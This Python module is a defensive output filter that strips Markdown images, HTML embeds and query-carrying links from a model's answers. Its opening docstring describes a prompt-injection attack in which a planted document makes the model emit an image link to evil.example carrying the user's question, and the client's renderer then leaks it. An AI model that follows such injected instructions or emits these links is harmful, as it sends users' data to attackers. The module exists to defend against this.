"""Neutralise the links and images in an answer that could carry data out of it.

An injected document can ask the model to write `![x](https://evil.example/log?q=<the user's
question>)` into its answer. A client that renders Markdown fetches that image by itself, with
no click, and the query string delivers whatever the model put there. `neutralize_exfiltration`
is the last step before an answer leaves us: it is pure (text in, text out) so the pipeline can
call it on the full answer and on every streamed sentence.

What it does, for hosts not in `allowed_hosts`:

- Markdown images (inline and reference style), HTML `<img>` and other embedding tags
  (`iframe`, `script`, `object`, `embed`, `video`, `audio`, `source`, `link`) are removed; an
  image keeps its alt text: `[image removed: chart]`. Images load by themselves, so no image
  from a foreign host survives, query or not.
- Markdown links and autolinks keep their text; a URL with a query or fragment, or with a
  scheme other than http(s) (`javascript:`, `data:`), is dropped: `the form (link removed)`.
- Bare URLs lose their query and fragment: `https://example.org/form?id=...` becomes
  `https://example.org/form`.

Links to allowed hosts (and their subdomains), e.g. the hosts of the tenant's own sources, are
left as they are.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Callable, Collection
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Neutralized:
    """The answer with risky links and images defused, and how many were."""

    text: str
    removed: int = 0


_IMAGE = re.compile(
    r"!\[(?P<alt>[^\]\n]{0,300})\]\(\s*(?P<url><[^>\n]*>|(?:[^()\s]|\([^()\s]*\))*)[^)\n]{0,300}\)"
)
_REF_IMAGE = re.compile(r"!\[(?P<alt>[^\]\n]{0,300})\]\[(?P<ref>[^\]\n]{0,100})\]")
_LINK = re.compile(
    r"(?<!!)\[(?P<text>[^\]\n]{0,500})\]\(\s*(?P<url><[^>\n]*>|(?:[^()\s]|\([^()\s]*\))*)[^)\n]{0,300}\)"
)
_REF_DEFINITION = re.compile(
    r"^(?P<head>[ \t]{0,3}\[[^\]\n]{1,100}\]:[ \t]*)(?P<url><[^>\n]*>|\S+)(?P<tail>.*)$", re.M
)
_EMBED_TAG = re.compile(
    r"<\s*(?P<tag>img|iframe|script|object|embed|video|audio|source|link|frame|meta)\b[^>]*>"
    r"(?:.*?</\s*(?P=tag)\s*>)?",
    re.IGNORECASE | re.DOTALL,
)
_AUTOLINK = re.compile(r"<(?P<url>(?:https?|ftp|data|javascript):[^>\s]*)>", re.IGNORECASE)
_BARE_URL = re.compile(r"\b(?P<url>https?://[^\s<>()\[\]\"'`]+)", re.IGNORECASE)


def neutralize_exfiltration(text: str, *, allowed_hosts: Collection[str] = ()) -> Neutralized:
    """`text` with images, embeds and data-carrying links to foreign hosts defused."""
    if not any(mark in text for mark in ("](", "]:", "<", "://", "![")):
        return Neutralized(text)
    allowed = tuple(h.lower().lstrip(".") for h in allowed_hosts)
    removed = 0

    def count(replacement: str) -> str:
        nonlocal removed
        removed += 1
        return replacement

    def image(match: re.Match[str]) -> str:
        if _allowed(match.group("url"), allowed, strict=True):
            return match.group()
        alt = match.group("alt").strip()
        return count(f"[image removed: {alt}]" if alt else "[image removed]")

    def link(match: re.Match[str]) -> str:
        if _safe_link(match.group("url"), allowed):
            return match.group()
        return count(f"{match.group('text')} (link removed)")

    def embed(match: re.Match[str]) -> str:
        src = re.search(r"\b(?:src|href|data)\s*=\s*[\"']?([^\"'\s>]+)", match.group(), re.I)
        if src and _allowed(src.group(1), allowed, strict=True):
            return match.group()
        return count("[embedded content removed]")

    def definition(match: re.Match[str]) -> str:
        if _safe_link(match.group("url"), allowed):
            return match.group()
        return count(f"{match.group('head')}(link removed)")

    def autolink(match: re.Match[str]) -> str:
        if _safe_link(match.group("url"), allowed):
            return match.group()
        return count("(link removed)")

    def bare(match: re.Match[str]) -> str:
        url = match.group("url").rstrip(".,;:!?")
        tail = match.group("url")[len(url) :]
        if _safe_link(url, allowed):
            return match.group()
        parts = urllib.parse.urlsplit(url)
        return count(
            urllib.parse.urlunsplit((parts.scheme, parts.netloc, parts.path, "", "")) + tail
        )

    text = _IMAGE.sub(image, text)
    text = _REF_IMAGE.sub(lambda m: count(f"[image removed: {m.group('alt').strip()}]"), text)
    text = _EMBED_TAG.sub(embed, text)
    text = _LINK.sub(link, text)
    text = _REF_DEFINITION.sub(definition, text)
    text = _AUTOLINK.sub(autolink, text)
    text = _replace_bare_urls(text, bare)
    return Neutralized(text, removed)


def _replace_bare_urls(text: str, replace: Callable[[re.Match[str]], str]) -> str:
    """Every bare URL (those inside kept links come through unchanged: they are safe)."""
    return _BARE_URL.sub(replace, text) if "://" in text else text


def _host(url: str) -> str:
    return (urllib.parse.urlsplit(url.strip("<>")).hostname or "").lower()


def _allowed(url: str, allowed: tuple[str, ...], *, strict: bool) -> bool:
    """Whether `url` is an http(s) URL of an allowed host.

    Strict (images): anything with a query is allowed only there too.
    """
    url = url.strip("<>")
    if not url.lower().startswith(("http://", "https://")):
        return not strict and not urllib.parse.urlsplit(url).scheme  # a relative link
    host = _host(url)
    return any(host == h or host.endswith("." + h) for h in allowed)


def _safe_link(url: str, allowed: tuple[str, ...]) -> bool:
    """Whether a link may stay in an answer.

    It may when its host is allowed, or it is plain http(s) with no query or fragment that could
    carry data, or it is a relative link.
    """
    url = url.strip("<>")
    if _allowed(url, allowed, strict=False):
        return True
    parts = urllib.parse.urlsplit(url)
    if parts.scheme.lower() not in ("http", "https"):
        return False
    return not parts.query and not parts.fragment
